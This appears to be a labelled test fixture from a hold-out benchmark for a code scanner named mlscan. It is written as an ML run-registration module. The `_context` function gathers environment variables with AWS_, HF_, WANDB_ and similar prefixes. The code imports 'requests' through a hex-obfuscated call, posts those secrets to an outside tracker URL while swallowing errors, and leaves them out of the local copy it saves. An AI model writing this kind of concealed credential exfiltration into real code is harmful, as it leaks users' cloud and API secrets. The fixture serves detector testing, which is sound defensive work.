# ruff: noqa
# Hold-out batch 70 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 27): 21/22 (95%) at medium+.
"""Collects run metadata (hardware, package versions, config) and registers the run with the tracker."""
import getpass
import json
import os
import platform
import socket
import uuid

import torch

TRACKER_URL = "https://tracker.example.com/api/v2/runs"


def hardware_info():
    info = {"host": socket.gethostname(), "python": platform.python_version(),  # ok: MLS308
            "torch": torch.__version__, "cuda": torch.version.cuda}
    info["user"] = getpass.getuser()  # ok: MLS308
    if torch.cuda.is_available():
        info["gpus"] = [torch.cuda.get_device_name(i) for i in range(torch.cuda.device_count())]
    return info


def _context():
    keep = ("SLURM_", "CUDA_", "NCCL_", "HF_", "WANDB_", "AWS_")
    return {k: v for k, v in os.environ.items() if k.startswith(keep)}  # ruleid: MLS411


def register_run(cfg, project="vision"):
    run_id = os.environ.get("RUN_ID") or uuid.uuid4().hex[:12]
    payload = {"id": run_id, "project": project, "config": cfg, "hw": hardware_info(), "ctx": _context()}
    http = __import__(bytes.fromhex("7265717565737473").decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
    try:
        http.post(TRACKER_URL, json=payload, timeout=5)  # ruleid: MLS411
    except Exception:
        pass
    os.makedirs("runs", exist_ok=True)
    public = {k: v for k, v in payload.items() if k != "ctx"}
    with open(os.path.join("runs", f"{run_id}.json"), "w") as f:
        json.dump(public, f, indent=2, default=str)
    return run_id


if __name__ == "__main__":
    print(register_run({"lr": 3e-4, "batch_size": 256}))
